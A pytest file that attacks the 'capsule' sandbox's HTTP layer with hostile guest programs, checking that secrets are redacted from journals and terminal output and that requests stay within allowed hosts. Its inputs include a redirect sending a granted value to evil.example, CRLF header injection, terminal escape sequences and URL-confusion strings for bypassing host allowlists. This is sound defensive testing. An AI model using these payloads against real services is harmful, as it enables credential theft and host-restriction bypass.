"""Hostile tasks that try to get credentials into the journal, the events or the
terminal through HTTP, and to send a request somewhere their grants do not
reach. Each runs for real (`capsule run`, a real local server); containment is
checked from the outside: the journal's bytes, `capsule inspect`, stderr."""

from __future__ import annotations

import base64
import json
import re
import socket
import sqlite3
import textwrap
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest

from tests.conftest import LocalServer, capsule_cli

#: Every secret of these programs has this in it: granted env values
#: (``EnvS3cretNN``) and credentials written into requests (``HdrS3cretNN``),
#: NN naming the attack. Percent-encoding leaves it as it is.
MARKER = "S3cret"
ATTACKS = 32


def env_value(number: int) -> str:
    if number == 4:  # a value with characters a URL encodes
        return "EnvS3cret04 a/b+c=d&e?f%h"
    return f"EnvS3cret{number:02}-Wq8Zr3Lp6Ty1"


HOSTILE = """
import base64, json, os
from urllib.parse import quote, unquote_plus
from capsule import task
from capsule.http import HttpError, get, post
from capsule.sdk.http import http_error
from wit_world.imports import http as raw_http


def raw(fields):
    # The WIT import itself, past the SDK: any JSON text at all.
    text = fields if isinstance(fields, str) else json.dumps(fields)
    try:
        return json.loads(raw_http.request(text))
    except Exception as exc:
        raise http_error(json.loads(exc.value)) from None


def each(calls):
    kinds = []
    for call in calls:
        try:
            call()
            kinds.append("sent")
        except HttpError as exc:
            kinds.append(f"{exc.kind}: {exc}")
    return kinds


def attacks(base, echo, closed, k, h):
    port = base.rsplit(":", 1)[1]
    return {
        # A granted value where no name says it is secret.
        1: lambda: k in get(base + "/echo", headers={"X-Custom": k}).text(),
        2: lambda: get(f"{base}/v1/{k}/items").status_code,
        3: lambda: k in unquote_plus(get(base + "/echo", params={"q": k}).json()["path"]),
        4: lambda: [
            get(base + "/echo", params={"q": k}).status_code,
            get(base + "/echo?x=" + k).status_code,
        ],
        # Names the old list missed.
        5: lambda: h in get(
            base + "/echo", headers={"X-Bearer": h + "a", "X-JWT": h + "b", "X-Passphrase": h + "c"}
        ).text(),
        6: lambda: get(base + "/echo", params={"sig": h + "a", "code": h + "b", "pwd": h + "c"})
        .status_code,
        7: lambda: get(base + "/echo#access_token=" + h).status_code,
        # Tokens in the path.
        8: lambda: get(base + "/bot123456789:AA" + h + "xYz/sendMessage").status_code,
        9: lambda: [
            get(base + "/hooks/" + h + "a").status_code,
            get(base + "/services/T0ABC/B0DEF/" + h + "xY7").status_code,
        ],
        # Userinfo: httpx sends it as Basic credentials, which /echo echoes back.
        10: lambda: "authorization" in get(f"http://user:{h}@127.0.0.1:{port}/echo").json()[
            "headers"
        ],
        # Malformed URLs, which no parser splits.
        11: lambda: raw(
            {"method": "GET", "url": f"http://user:{h}a@[::1/?api_key={h}b&q={k}", "body": ""}
        ),
        12: lambda: get(f"ftp://user:{h}@127.0.0.1/?q={k}"),
        # Header values HTTP refuses, which httpx's errors quote.
        13: lambda: raw(
            {
                "method": "GET",
                "url": base + "/echo",
                "headers": [["Authorization", f"Bearer {h}\\r\\nX-Injected: 1"]],
            }
        ),
        14: lambda: get(base + "/echo", headers={"X-Custom": k + "\\n"}),
        # Connection errors, which quote the URL.
        15: lambda: get(f"{closed}/{k}/?api_key={h}"),
        # Guest values in the request's other fields.
        16: lambda: each(
            [
                lambda: raw({"method": k, "url": base + "/echo"}),
                lambda: raw({"method": "GET", "url": base + "/echo", "timeout_s": h}),
                lambda: raw({"method": "GET", "url": base + "/echo", "body": h + "!"}),
                lambda: raw({"method": "GET", "url": base + "/echo", "headers": {"X-K": k}}),
                lambda: raw({"method": "GET", "url": base + "/echo", "headers": [[k]]}),
                lambda: raw({"method": "GET", "url": base + "/echo", k: h}),
                lambda: raw([k, h]),
                lambda: raw(k + '"' + h),
                lambda: raw("[" * 200000 + k),
                lambda: raw({"method": "GET", "url": base + "/echo", "timeout_s": float("nan")}),
                lambda: raw({"method": "GET", "url": base + "/echo", "timeout_s": True}),
            ]
        ),
        # A number no float holds.
        17: lambda: raw(
            '{"method": "GET", "url": "' + base + '/echo", "timeout_s": 1' + "0" * 400 + "}"
        ),
        # A redirect to a host not granted, the value in both URLs.
        18: lambda: get(base + "/redirect?to=" + quote(f"http://evil.example/?x={k}", safe="")),
        # A redirect inside the granted host: the final URL carries the value.
        19: lambda: get(base + "/redirect?to=" + quote(f"/echo?x={k}", safe="")).url.endswith(k),
        # A server that echoes request headers as response headers.
        20: lambda: get(echo + "/", headers={"X-Custom": k, "Authorization": "Bearer " + h})
        .headers.get("x-echo-x-custom")
        == k,
        # Across origins, a header carrying a granted value is dropped.
        21: lambda: "x-custom" in get(
            base + "/redirect?to=" + quote(f"http://localhost:{port}/echo", safe=""),
            headers={"X-Custom": k},
        ).json()["headers"],
        # Bounds: what a task makes the host hold or journal.
        22: lambda: each(
            [
                lambda: get(base + "/echo?q=" + "A" * (8 * 2**20) + k),
                lambda: get(base + "/echo", headers={f"X-H{i}": k for i in range(5000)}),
                lambda: get(base + "/echo", headers={"X-Big": k + "A" * (4 * 2**20)}),
            ]
        ),
        # Terminal control sequences in what -v shows.
        23: lambda: each(
            [
                lambda: get(base + "/\\x1b]0;pwned\\x07\\x1b[2J" + k),
                lambda: raw({"method": "GET", "url": base + "/\\u009b31m" + k}),
            ]
        ),
        # Cookies and bearer tokens sent, and echoed back in the body.
        24: lambda: h in get(base + "/echo", headers={"Cookie": f"theme=dark; sid={h}"}).text(),
        25: lambda: h in get(base + "/echo", headers={"Authorization": "Bearer " + h}).text(),
        # Header names that are not names.
        26: lambda: each(
            [
                lambda: raw({"method": "GET", "url": base + "/echo", "headers": [[h + " x", "v"]]}),
                lambda: raw({"method": "GET", "url": base + "/echo", "headers": [[k + " x", "v"]]}),
                lambda: raw({"method": "GET", "url": base + "/echo", "headers": [[h * 100, "v"]]}),
                lambda: raw({"method": "GET", "url": base + "/echo", "headers": [[h + "\\n", "v"]]}),
            ]
        ),
        # A lone surrogate, which no encoder takes.
        27: lambda: raw('{"method": "GET", "url": "' + base + "/" + k + '\\\\ud800"}'),
        # camelCase and separators the name check must see through.
        28: lambda: get(
            base + "/echo",
            params={"accessToken": h + "a", "clientSecret": h + "b", "X-Amz-Signature": h + "c"},
            headers={"X-Vault-Token": h + "d", "PRIVATE-TOKEN": h + "e"},
        ).status_code,
        # The value inside a longer header value and in the body of a POST.
        29: lambda: post(
            base + "/echo", headers={"X-Note": "key=" + k + ";"}, json={"key": k}
        ).status_code,
        # A key-like name in a malformed query, and an unparsable port.
        30: lambda: each(
            [
                lambda: get(f"http://127.0.0.1:{port}x/?api_key={h}"),
                lambda: get(f"http://127.0.0.1:99999/{k}?token={h}"),
            ]
        ),
        # Credentials inside the fragment and the query of a redirect's Location.
        31: lambda: get(
            base + "/redirect?to=" + quote(f"/status/200?code={h}#id_token={h}", safe="")
        ).status_code,
        32: lambda: get(base + "/echo", headers={"Proxy-Authorization": "Basic " + h}).status_code,
    }


@task(name="main", allowed_hosts=["127.0.0.1", "localhost"], env=[__ENV__])
def main(base: str, echo: str, closed: str) -> dict:
    out = {}
    for number in range(1, __ATTACKS__ + 1):
        k = os.environ[f"K{number:02}"]
        h = f"HdrS3cret{number:02}-Qx7Lm2Np9Rt4"
        try:
            out[number] = ["sent", attacks(base, echo, closed, k, h)[number]()]
        except HttpError as exc:
            out[number] = [exc.kind, str(exc)]
    return out
"""


class _HeaderEcho(BaseHTTPRequestHandler):
    """Answers every request with its headers as ``X-Echo-<name>`` headers."""

    def do_GET(self) -> None:
        self.send_response(200)
        for name, value in self.headers.items():
            self.send_header(f"X-Echo-{name}", value)
        self.send_header("Content-Length", "2")
        self.end_headers()
        self.wfile.write(b"{}")

    def log_message(self, format: str, *args: Any) -> None:
        return None


@pytest.fixture
def header_echo() -> Iterator[str]:
    server = ThreadingHTTPServer(("127.0.0.1", 0), _HeaderEcho)
    server.daemon_threads = True
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}"
    finally:
        server.shutdown()
        server.server_close()
        thread.join()


@pytest.fixture
def closed_port() -> Iterator[str]:
    """A port on 127.0.0.1 that is bound but not listening: connections fail."""
    sock = socket.socket()
    sock.bind(("127.0.0.1", 0))
    try:
        yield f"http://127.0.0.1:{sock.getsockname()[1]}"
    finally:
        sock.close()


def journal_bytes(journal: Path) -> bytes:
    """The journal as it is on disk: the database, its WAL and shared memory."""
    return b"".join(
        path.read_bytes()
        for path in (journal, journal.with_name(journal.name + "-wal"))
        if path.exists()
    )


def journaled_bodies(journal: Path) -> list[bytes]:
    """The response bodies the journal holds (base64 there), decoded."""
    with sqlite3.connect(journal) as connection:
        answers = [
            row[0]
            for row in connection.execute("SELECT answer FROM steps WHERE kind = 'http' AND ok")
        ]
    return [base64.b64decode(json.loads(answer)["body"]) for answer in answers]


def leaks(text: str) -> set[str]:
    """Which attacks' secrets are in ``text``."""
    return set(re.findall(rf"(?:Env|Hdr){MARKER}(\d\d)", text))


def test_no_secret_reaches_the_journal_the_events_or_the_terminal(
    tmp_path: Path, http_server: LocalServer, header_echo: str, closed_port: str, core: str
) -> None:
    names = ", ".join(f'"K{n:02}"' for n in range(1, ATTACKS + 1))
    program = tmp_path / "hostile.py"
    program.write_text(
        textwrap.dedent(HOSTILE).replace("__ENV__", names).replace("__ATTACKS__", str(ATTACKS))
    )
    env = {f"K{n:02}": env_value(n) for n in range(1, ATTACKS + 1)}
    journal = tmp_path / "journal.db"
    done = capsule_cli(
        "run", str(program), http_server.url, header_echo, closed_port, "-v",
        "--journal", str(journal), "--core", core, env=env,
    )  # fmt: skip
    assert done.returncode == 0, done.stderr[-3000:]
    outcomes = {int(number): outcome for number, outcome in json.loads(done.stdout).items()}

    # What the task saw: the real responses, and the refusals it should get.
    kinds = {number: outcome[0] for number, outcome in outcomes.items()}
    refused = {11, 12, 13, 14, 17, 27}
    assert {n for n, kind in kinds.items() if kind == "invalid_request"} == refused, outcomes
    assert kinds[15] == "connection_failed" and kinds[18] == "host_not_allowed", outcomes
    for number in (1, 3, 5, 10, 19, 20, 24, 25):
        assert outcomes[number] == ["sent", True], (number, outcomes[number])
    assert outcomes[21] == ["sent", False]  # dropped at the other origin
    for number in (16, 22, 26, 30):
        for kind in outcomes[number][1]:
            assert kind.startswith("invalid_request: "), (number, kind)
    assert "Host" not in outcomes[16][1][0]  # (a sanity check of the messages' form)

    # Nowhere outside the task: the journal, inspect, the terminal, the result.
    inspected = capsule_cli("inspect", "--last", "--json", "--journal", str(journal))
    shown = capsule_cli("inspect", "--last", "--journal", str(journal))
    assert inspected.returncode == 0 and shown.returncode == 0, inspected.stderr
    places = {
        "journal": journal_bytes(journal).decode("utf-8", "replace"),
        "journaled bodies": " ".join(
            b.decode("utf-8", "replace") for b in journaled_bodies(journal)
        ),
        "inspect --json": inspected.stdout,
        "inspect": shown.stdout,
        "stderr -v": done.stderr,
        "result": done.stdout,
    }
    found = {place: leaks(text) for place, text in places.items() if leaks(text)}
    assert found == {}, found
    # Basic credentials echoed back: base64, so not found by the marker.
    for body in journaled_bodies(journal):
        for encoded in re.findall(rb"Basic ([A-Za-z0-9+/=]{8,})", body):
            assert MARKER.encode() not in base64.b64decode(encoded + b"=="), body
    assert "Traceback" not in done.stderr
    assert "\x1b" not in done.stderr and "\x9b" not in done.stderr
    # Bounded: the 8 MB URL and 4 MB header were not kept.
    assert len(journal_bytes(journal)) < 2 * 2**20


ROUTING = """
import json
from capsule import task
from capsule.sdk.http import http_error
from wit_world.imports import http as raw_http
from capsule.http import HttpError, get

@task(name="main", allowed_hosts=["127.0.0.1"])
def main(base: str, names: str, urls: str) -> list:
    out = []
    for name in json.loads(names):
        try:
            get(base + "/echo", headers={name: "evil.example"})
            out.append(["sent", name])
        except HttpError as exc:
            out.append([exc.kind, str(exc)])
    for url in json.loads(urls):
        try:
            get(url)
            out.append(["sent", url])
        except HttpError as exc:
            out.append([exc.kind, str(exc)])
    return out
"""

#: Headers that say where a request goes, or how it is framed: a task cannot set them.
REFUSED_HEADERS = [
    "Host",
    "host",
    "HOST",
    "X-Forwarded-Host",
    "X-Forwarded-Server",
    "X-Host",
    "X-HTTP-Host-Override",
    "Forwarded",
    "X-Original-URL",
    "X-Rewrite-URL",
    "Transfer-Encoding",
    "Content-Length",
    "Connection",
    "Keep-Alive",
    "Proxy-Connection",
    "TE",
    "Trailer",
    "Upgrade",
]
#: Not names at all (a pseudo-header, whitespace that may be trimmed into Host).
INVALID_NAMES = [":authority", "Host ", " Host", "Ho st", "Host:", "Host\t"]


def test_a_task_cannot_redirect_a_request_past_its_allowed_hosts(
    tmp_path: Path, http_server: LocalServer
) -> None:
    port = http_server.server_address[1]
    urls = [
        f"http://127.0.0.1:{port}\\@evil.example/echo",
        f"http://evil.example\\\\127.0.0.1:{port}/echo",
        f"http://127.0.0.1:{port}%2F@evil.example/echo",
        f"http://evil.example#@127.0.0.1:{port}/echo",
        f"http://evil.example?@127.0.0.1:{port}/echo",
        "http:/\\evil.example/echo",
    ]
    program = tmp_path / "fronting.py"
    program.write_text(textwrap.dedent(ROUTING))
    done = capsule_cli(
        "run", str(program), http_server.url, json.dumps(REFUSED_HEADERS + INVALID_NAMES),
        json.dumps(urls), "-v", "--journal", str(tmp_path / "journal.db"),
    )  # fmt: skip
    assert done.returncode == 0, done.stderr[-3000:]
    outcomes = json.loads(done.stdout)
    assert http_server.hits == {}, (http_server.hits, outcomes)  # nothing reached the server
    for name, (kind, message) in zip(REFUSED_HEADERS, outcomes, strict=False):
        assert kind == "invalid_request", (name, kind, message)
        assert f"'{name.lower()}'" in message.lower(), (name, message)
    for name, (kind, message) in zip(INVALID_NAMES, outcomes[len(REFUSED_HEADERS) :], strict=False):
        assert kind == "invalid_request", (name, kind, message)
    for url, (kind, message) in zip(
        urls, outcomes[len(REFUSED_HEADERS) + len(INVALID_NAMES) :], strict=True
    ):
        assert kind in ("host_not_allowed", "invalid_request"), (url, kind, message)
    assert "Traceback" not in done.stderr


# -- redaction and the request's boundary, without a run ------------------------


@pytest.mark.parametrize(
    "name",
    [
        "Authorization", "Proxy-Authorization", "Cookie", "Set-Cookie", "X-Api-Key", "apiKey",
        "api_key", "X-Goog-Api-Key", "key", "X-Bearer", "X-JWT", "X-Passphrase", "password",
        "pwd", "pass", "sig", "code", "access_token", "accessToken", "clientSecret",
        "X-Amz-Signature", "X-Amz-Credential", "X-Vault-Token", "PRIVATE-TOKEN", "X-CSRF-Token",
        "sid", "jsessionid", "otp",
    ],
)  # fmt: skip
def test_names_that_carry_credentials(name: str) -> None:
    from capsule.net.redact import is_sensitive

    assert is_sensitive(name)


@pytest.mark.parametrize(
    "name",
    ["Content-Type", "Accept", "User-Agent", "X-Request-Id", "q", "page", "status_code",
     "zipcode", "keyword", "monkey", "Passthrough"],
)  # fmt: skip
def test_names_that_do_not(name: str) -> None:
    from capsule.net.redact import is_sensitive

    assert not is_sensitive(name)


SECRET = "Tok3nValue-9xYz"


@pytest.mark.parametrize(
    "url",
    [
        f"http://user:{SECRET}@host/",
        f"http://user:{SECRET}@[::1/",  # no parser splits it
        f"http:\\\\user:{SECRET}@host/",
        f"user:{SECRET}@host/path",
        f"ftp://user:{SECRET}@host/",
        f"http://host/?api_key={SECRET}",
        f"http://host/?sig={SECRET}&q=1",
        f"http://host/?code={SECRET}",
        f"http://host/?pwd={SECRET}",
        f"http://host/;x?a=1;token={SECRET}",
        f"http://host/#access_token={SECRET}",
        f"http://host/x#{SECRET}",
        f"http://host/bot123456:{SECRET}/sendMessage",
        f"http://host/hooks/{SECRET}",
        f"http://host/services/T0/B0/{SECRET}AbC123def",
        f"http://host/app;jsessionid={SECRET}/x",
        f"http://host/cb?next=%2Fdone%3Fcode%3D{SECRET}",
        f"http://host/?q={SECRET}AbCdEf12345",  # token-shaped, whatever its name
        f"http://[::1]:99999/?token={SECRET}",
        f"http://host:port/?token={SECRET}",
    ],
)
def test_every_url_form_is_redacted_by_where_its_secrets_stand(url: str) -> None:
    from capsule.net.redact import Secrets, credentials, redact_url

    assert SECRET not in redact_url(url)
    if not url.endswith("#" + SECRET):  # (a fragment is not a credential as a whole)
        # Learned as a credential: replaced wherever else it appears.
        learned = Secrets(credentials(url, []))
        assert SECRET not in learned.text(url)


def test_known_values_are_replaced_in_every_form_a_url_gives_them() -> None:
    from urllib.parse import quote, quote_plus

    from capsule.net.redact import REDACTED, Secrets, redact_headers, redact_text, redact_url

    value = "s3cret a/b+c=d&e?f"
    secrets = Secrets([value])
    for form in (value, quote(value, safe=""), quote_plus(value), quote(value)):
        assert redact_url(f"http://host/x?q={form}", secrets) == f"http://host/x?q={REDACTED}"
        assert redact_text(f"GET http://host/{form} failed: {form!r}", secrets).count(REDACTED) == 2
        assert redact_headers([("X-Note", f"k={form};")], secrets) == [("X-Note", f"k={REDACTED};")]
    assert secrets.data(b"<" + value.encode() + b">") == b"<" + REDACTED.encode() + b">"


def test_values_shorter_than_the_floor_are_replaced_only_where_they_stand() -> None:
    from capsule.net.redact import MIN_SECRET_CHARS, Secrets, redact_headers, redact_url

    short = "x" * (MIN_SECRET_CHARS - 1)
    secrets = Secrets([short, " " * 20])
    assert not secrets
    assert redact_url(f"http://host/{short}?api_key={short}", secrets) == (
        f"http://host/{short}?api_key=[redacted]"
    )
    assert redact_headers([("Authorization", short)], secrets) == [("Authorization", "[redacted]")]


def test_a_granted_value_that_is_not_utf8_is_redacted_in_bodies() -> None:
    from capsule.net.redact import Secrets

    raw = b"k\xff-" + b"7" * 10
    value = raw.decode("utf-8", "surrogateescape")  # as os.environ holds it
    secrets = Secrets([value])
    assert secrets.data(b"[" + raw + b"]") == b"[[redacted]]"
    assert secrets.text(f"a {value} b") == "a [redacted] b"


def test_what_a_run_learns_is_bounded() -> None:
    from capsule.net.redact import MAX_LEARNED, MAX_LEARNED_CHARS, KnownSecrets

    known = KnownSecrets(["granted-value-1"])
    for number in range(MAX_LEARNED * 3):
        secrets = known.learn(frozenset({f"credential-{number:04}"}))
        assert f"credential-{number:04}" in secrets.values  # redacted in its own request
    assert len(known.learn(frozenset()).values) == MAX_LEARNED + 1
    assert "granted-value-1" in known.learn(frozenset()).values
    huge = "h" * (MAX_LEARNED_CHARS + 1)
    fresh = KnownSecrets([])
    assert huge in fresh.learn(frozenset({huge})).values
    assert fresh.learn(frozenset()).values == frozenset()


@pytest.mark.parametrize(
    ("text", "says"),
    [
        ("[" * 100_000, "deeper than 200 levels"),
        ('{"method": "GET", "url": "http://h/", "timeout_s": 1' + "0" * 400 + "}", "timeout_s"),
        ('{"method": "GET", "url": "http://h/", "timeout_s": NaN}', "not valid JSON"),
        ('{"method": "GET", "url": "http://h/", "timeout_s": true}', "timeout_s"),
        ('{"method": "GET", "url": "http://h/", "timeout_s": "SECRET-1"}', "timeout_s"),
        ('{"method": "SECRET-1", "url": "http://h/"}', "method"),
        ('{"method": "GET", "url": ["SECRET-1"]}', "URL"),
        ('{"method": "GET", "url": "http://h/\\ud800SECRET-1"}', "lone surrogate"),
        ('{"method": "GET", "url": "http://h/", "SECRET-1": 1}', "fields"),
        ('{"method": "GET", "url": "http://h/", "body": "SECRET-1!"}', "base64"),
        ('{"method": "GET", "url": "http://h/", "headers": {"a": "SECRET-1"}}', "list"),
        ('{"method": "GET", "url": "http://h/", "headers": [["SECRET-1"]]}', "pair"),
        ('{"method": "GET", "url": "http://h/", "headers": [["a b", "SECRET-1"]]}', "name"),
        ('{"method": "GET", "url": "http://h/", "headers": [["A", "SECRET-1\\n"]]}', "'a'"),
        ('{"method": "GET", "url": "http://h/", "headers": [["A", "SECRET-1\\u00e9"]]}', "ASCII"),
        ('{"method": "GET", "url": "http://h/", "headers": [["Host", "SECRET-1"]]}', "'host'"),
        ('{"method": "GET", "url": "http://h/", "headers": [["Content-Length", "1"]]}', "length"),
        ('"SECRET-1"', "object"),
    ],
)
def test_a_malformed_request_is_refused_without_quoting_it(text: str, says: str) -> None:
    from capsule.net.http import HttpFailure, HttpRequest

    with pytest.raises(HttpFailure) as refused:
        HttpRequest.from_json(text)
    assert refused.value.kind == "invalid_request"
    assert says in refused.value.message and "SECRET" not in refused.value.message


def test_request_bounds() -> None:
    from capsule.net.http import (
        MAX_HEADER_BYTES,
        MAX_HEADERS,
        MAX_URL_CHARS,
        HttpFailure,
        HttpRequest,
    )

    def request(**fields: Any) -> str:
        return json.dumps({"method": "GET", "url": "http://h/", **fields})

    for text in (
        request(url="http://h/" + "a" * MAX_URL_CHARS),
        request(headers=[["X-A", "v"]] * (MAX_HEADERS + 1)),
        request(headers=[["X-A", "v" * MAX_HEADER_BYTES]]),
        request(headers=[["X" * 300, "v"]]),
    ):
        with pytest.raises(HttpFailure, match=r"at most|longer|larger|header name"):
            HttpRequest.from_json(text)
    accepted = HttpRequest.from_json(request(headers=[["X-A", "  padded\t"]], timeout_s=600))
    assert accepted.headers == [("X-A", "padded")] and accepted.timeout_s == 600.0


def test_urls_in_other_headers_and_in_messages_are_redacted() -> None:
    from capsule.net.redact import redact_headers, redact_text

    headers = redact_headers(
        [
            ("Referer", f"https://u:{SECRET}@host/?token={SECRET}2"),
            ("Location", f"/next?code={SECRET}3#id_token={SECRET}4"),
            ("Link", f'<https://host/?page=2&access_token={SECRET}5>; rel="next"'),
        ]
    )
    assert SECRET not in json.dumps(headers), headers
    message = redact_text(f"failed: 'mailto:x' and http://u:{SECRET}@h/\x1b[2J\u202e")
    assert SECRET not in message and "\x1b" not in message and "\u202e" not in message
